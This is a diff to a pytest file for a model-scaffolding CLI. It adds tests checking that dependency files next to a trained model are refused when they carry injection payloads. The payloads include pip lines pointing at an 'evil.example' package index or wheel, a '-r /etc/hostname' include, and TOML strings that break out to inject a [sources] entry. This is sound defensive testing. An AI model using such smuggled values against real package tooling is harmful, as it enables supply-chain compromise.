@@ -12,6 +12,7 @@ from pathlib import Path
 
 import pytest
 
+from gateway.cli.support import console
 from tests.conftest import require
 from tests.flow.deploy.conftest import ROOT
 from tests.patience import patience
@@ -198,6 +199,53 @@ def test_around_a_model_in_julia(shell: Shell, tmp_path: Path):
     assert "make setup" in shell("verify", str(folder)).err
     (trained / "Project.toml").write_text("[deps\n")
     assert "not a Project.toml" in shell("new", "julia", "broken", "--from", "trained").err
+
+
+@pytest.mark.parametrize(
+    ("name", "version"),
+    [
+        ("--index-url=https://evil.example/simple\nnumpy", "1.0"),
+        ("numpy", "1.0\n-r /etc/hostname"),
+        ("numpy", "1.0 ; python_version > '3'"),
+        ("numpy @ https://evil.example/numpy.whl", ""),
+    ],
+)
+def test_what_a_model_needs_is_no_option_for_pip(shell: Shell, tmp_path: Path, name: str, version: str):
+    """An ONNX file runs no code of its author, so what lies next to it must not either."""
+    trained = tmp_path / "trained"
+    trained.mkdir()
+    (trained / "model.onnx").write_bytes(b"\x08\x08")
+    (trained / "runtime.json").write_text(json.dumps({"python": "3.12.1", name: version}))
+    refused = shell("new", "python", "churn", "--from", "trained")
+    assert refused.code == console.EX_DATAERR
+    assert "runtime.json next to the model" in refused.err
+    assert not (tmp_path / "models/churn/requirements.txt").exists()
+
+
+@pytest.mark.parametrize(
+    "project",
+    [
+        {"deps": {"GLM": '"\n[sources]\nGLM = {url = "https://evil.example"}\n#'}},
+        {"deps": {"GLM = 1\n[sources]\nA": "38e38edf-8417-5370-95a0-9cbb8c7f171a"}},
+        {"deps": {}, "compat": {"GLM": '1"\n[sources]\n#'}},
+    ],
+)
+def test_what_a_julia_model_needs_is_nothing_else(
+    shell: Shell, tmp_path: Path, project: dict[str, dict[str, str]]
+):
+    trained = tmp_path / "trained"
+    trained.mkdir()
+    (trained / "model.jld2").write_bytes(b"HDF5-based Julia Data Format, version 0.1.1")
+    (trained / "Project.toml").write_text(
+        "".join(
+            f"[{table}]\n"
+            + "".join(f"{json.dumps(key)} = {json.dumps(value)}\n" for key, value in of.items())
+            for table, of in project.items()
+        )
+    )
+    refused = shell("new", "julia", "again", "--from", "trained")
+    assert refused.code == console.EX_DATAERR
+    assert "names no package" in refused.err
 
 
 def test_what_is_there_is_left_alone(shell: Shell, tmp_path: Path):
